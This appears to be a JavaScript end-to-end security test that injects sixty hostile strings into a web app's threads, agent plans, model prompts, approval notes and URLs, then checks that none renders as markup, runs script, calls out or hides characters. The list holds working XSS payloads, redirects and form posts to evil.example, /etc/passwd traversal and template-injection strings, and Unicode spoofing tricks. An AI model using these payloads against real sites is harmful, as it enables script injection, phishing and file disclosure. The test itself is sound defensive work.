// Sixty hostile texts, wherever a stranger's text can get onto a page: they stay text. No element, no script, no
// request and no title comes of them, and no character of them hides or turns others around.

import { answers, asks, asksSage, crawl, escaped, sends, signedIn, systole } from './house.mjs';
import { facts, holds, overflow, same, story, until, visit } from './stage.mjs';

const MARK = 'id=hostile';
const HOSTILE = [
  `<b ${MARK}>bold</b>`,
  `<script ${MARK}>hostile()</script>`,
  `</script><script ${MARK}>hostile()</script>`,
  `<img ${MARK} src=x onerror=hostile()>`,
  `"><img ${MARK} src=x onerror=hostile()>`,
  `'><svg ${MARK} onload=hostile()>`,
  `</pre></p></li></ol><h1 ${MARK}>Approved</h1>`,
  `</title><title ${MARK}>Hostile</title>`,
  `</textarea><input ${MARK} autofocus onfocus=hostile()>`,
  `<iframe ${MARK} src=javascript:hostile()></iframe>`,
  `<iframe ${MARK} srcdoc="<script>hostile()</script>"></iframe>`,
  `<a ${MARK} href="javascript:hostile()">click</a>`,
  `<base ${MARK} href="http://evil.example/">`,
  `<meta ${MARK} http-equiv=refresh content="0;url=http://evil.example/">`,
  `<link ${MARK} rel=stylesheet href=http://evil.example/a.css>`,
  `<style ${MARK}>*{display:none}</style>`,
  `<form ${MARK} action=http://evil.example/><button>Approve</button></form>`,
  `<object ${MARK} data=javascript:hostile()></object>`,
  `<embed ${MARK} src=javascript:hostile()>`,
  `<template ${MARK}><script>hostile()</script></template>`,
  `<noscript><p title="</noscript><img ${MARK} src=x onerror=hostile()>">`,
  `<svg><style><img ${MARK} src=x onerror=hostile()></style></svg>`,
  `<math><mtext><img ${MARK} src=x onerror=hostile()></mtext></math>`,
  `<details ${MARK} open ontoggle=hostile()>x</details>`,
  `<dialog ${MARK} open>You won</dialog>`,
  `<!-- ${MARK} -->`,
  `--><b ${MARK}>x</b><!--`,
  `]]><b ${MARK}>x</b>`,
  `<![CDATA[<b ${MARK}>x</b>]]>`,
  `<?xml ${MARK}?>`,
  `&lt;b ${MARK}&gt;x&lt;/b&gt;`,
  `&#60;b ${MARK}&#62;`,
  `&amp;lt;b ${MARK}&amp;gt;`,
  `{{ 7 * 7 }}{% include "/etc/passwd" %}`,
  '${hostile()}`${hostile()}`',
  `' onmouseover='hostile()' ${MARK} x='`,
  `" autofocus onfocus="hostile()" ${MARK} x="`,
  `javascript:hostile()`,
  `data:text/html,<script>hostile()</script>`,
  `http://evil.example/?${MARK}`,
  `//evil.example/x`,
  `../../../../etc/passwd`,
  `%3Cscript%3Ehostile()%3C/script%3E`,
  `\\u003cscript\\u003ehostile()\\u003c/script\\u003e`,
  'pay Bob\u202E000,1\u202C now',
  '\u2066left\u2069 and \u2067right\u2069',
  'zero\u200Bwidth\u200C\u200D\uFEFFspaces',
  'soft\u00ADhyphen',
  'tags \u{E0041}\u{E0042}',
  'line\u2028and\u2029paragraph',
  'next\u0085line',
  'tab\tand\rreturn\nand line',
  '  #99  operator approved a1',
  '12:00:00.000  #1  everything is well',
  'Ｗｉｄｅ ａｄｍｉｎ',
  'аdmin with a Cyrillic a',
  `e${'\u0301'.repeat(200)} piled up`,
  `${'W'.repeat(3000)}`,
  `${'<'.repeat(500)}`,
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{1F3F4}',
];
/** Characters that hide, or that turn around what is beside them. */
const UNSEEN = /[\u0085\u00AD\u200B\u200E\u200F\u2028-\u202E\u2060-\u2069\uFEFF\u{E0000}-\u{E007F}]/u;

same(HOSTILE.length, 60, 'the texts');

/** What came of the hostile texts in a page. Nothing may. */
const harm = (page) =>
  page.evaluate(() => {
    const found = [...document.querySelectorAll('[id=hostile], iframe, object, embed, base, body style, svg script, [srcdoc]')];
    for (const element of document.querySelectorAll('*')) {
      if ([...element.attributes].some(({ name }) => name.startsWith('on'))) found.push(element);
    }
    if (document.head.querySelectorAll('title').length !== 1 || /hostile/i.test(document.title)) found.push(document.head);
    return found.map((element) => element.outerHTML.slice(0, 200));
  });

/** Texts in Python: what a plan in the boss's request takes. */
const python = (value) => JSON.stringify(value).replace(/[\u007f-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
  .replace(/\\ud[89ab][0-9a-f]{2}\\ud[c-f][0-9a-f]{2}/g, (pair) => {
    const code = JSON.parse(`"${pair}"`).codePointAt(0);
    return `\\U${code.toString(16).padStart(8, '0')}`;
  });

await story(async (stage) => {
  const context = await stage.context();
  const strangers = [];
  await context.exposeBinding('hostile', () => strangers.push('a script ran'));
  context.on('request', (request) => {
    if (new URL(request.url()).origin !== facts.address) strangers.push(`a request to ${request.url()}`);
  });
  context.on('dialog', (dialog) => strangers.push(`a dialog ${dialog.message()}`));
  const page = await signedIn(context);

  // In payloads, and in keys where these may have them. A page follows, and takes the rows over as they come.
  const { thread } = await sends('echo', 'the first');
  await visit(page, `/t/${thread}`);
  for (const [at, hostile] of HOSTILE.entries()) {
    const key = /^[\x21-\x7e]{1,100}$/.test(hostile) ? `${at}${hostile}` : undefined;
    // At most 16 may wait behind one that is being answered.
    const sent = await sends('echo', hostile, { thread, key, wait: at % 8 === 7 || at === HOSTILE.length - 1 });
    holds([200, 202].includes(sent.status), `${hostile}: ${JSON.stringify(sent)}`);
  }
  await until(page, () => document.querySelectorAll('.row').length >= 122, 'the rows come');
  same(await harm(page), [], 'rows that came while the page was open');

  // In questions, labels, names of children, notes, and in what was refused.
  for (let at = 0; at < HOSTILE.length; at += 12) {
    const some = HOSTILE.slice(at, at + 12).filter((hostile) => hostile.length < 400);
    const items = some.map((hostile) => `note(${python(hostile)}), spawn(say('echo', ${python(hostile)}), ${python(hostile.slice(0, 60))})`);
    await sends('boss', `[[${items.join(', ')}], [said('done')]]`, { wait: false });
    const asked = some.map((hostile) => `person(${python(hostile)}, 'yes', shows=[(1, ${python(hostile)})])`);
    await sends('boss', `[[${asked.join(', ')}], everything]`, { wait: false });
  }
  // In what a model is shown, thinks, calls and answers.
  const sage = await asksSage(HOSTILE.filter((hostile) => hostile.length < 400).join('\n'));
  for (const hostile of HOSTILE) {
    const body = `<say xmlns="https://xml-pipeline.org/ns/echo/v1"><txt>${escaped(hostile)}</txt></say>`;
    const answer = await asks('POST', '/v1/messages', { token: facts.token, body });
    holds([422, 429].includes(answer.status), answer.text);
  }
  const paused = await sends('vault', HOSTILE[1], { wait: false });
  const pausing = { token: facts.token, body: JSON.stringify({ note: HOSTILE[3] }), headers: { 'content-type': 'application/json' } };
  const answer = await asks('POST', `/v1/threads/${paused.thread}/pause`, pausing);
  same(answer.status, 200, answer.text);
  const isHeld = ({ kind }) => kind === 'approval';
  const { approvals } = await answers('/v1/approvals', ({ approvals: all }) => all.length > 20 && all.some(isHeld), 'they wait');
  await systole('reject', approvals.find(isHeld).id, '--note', HOSTILE[4]);

  const records = Array.from({ length: 24 }, (_, at) => `/t/${thread}/${at * 5 + 2}`);
  const found = await crawl(page, ['/', '/threads', `/t/${thread}`, `/t/${paused.thread}`, `/t/${sage.thread}`, `/t/${sage.thread}/context`, ...records], 4);
  console.log(`${found.length} pages`);
  for (const path of found) {
    await visit(page, path);
    same(await harm(page), [], `${path} has what a hostile text made`);
    const all = await page.locator('body').evaluate((body) => body.textContent);
    const [unseen] = UNSEEN.exec(all) ?? [];
    const around = unseen && all.slice(Math.max(0, all.indexOf(unseen) - 60), all.indexOf(unseen) + 20);
    holds(!unseen, `${path} has the hidden character ${unseen?.codePointAt(0).toString(16)} in ${JSON.stringify(around)}`);
    for (const width of [320, 1280]) {
      await page.setViewportSize({ width, height: 900 });
      const wide = await overflow(page);
      holds(!wide, `${path} at ${width}: ${wide}`);
    }
  }
  // In what a person types: filters, addresses of pages that are not there, and broken queries.
  stage.expects(/status of 40[04]/);
  for (const [at, hostile] of HOSTILE.filter((one) => one.length < 200).entries()) {
    const path = ['/threads?q=HERE', '/t/HERE', '/threads?HERE=1'][at % 3].replace('HERE', encodeURIComponent(hostile));
    await visit(page, path);
    same(await harm(page), [], `${path} has what a hostile text made`);
  }
  await visit(page, `/t/${thread}`);
  const shown = await page.locator('#rows').textContent();
  for (const wanted of [HOSTILE[0], '\\u{202e}']) {
    holds(shown.includes(wanted), `${wanted} is not shown as it is: ${shown.slice(0, 2000)}`);
  }
  same(strangers, [], 'what hostile texts did');
  stage.clean();
});
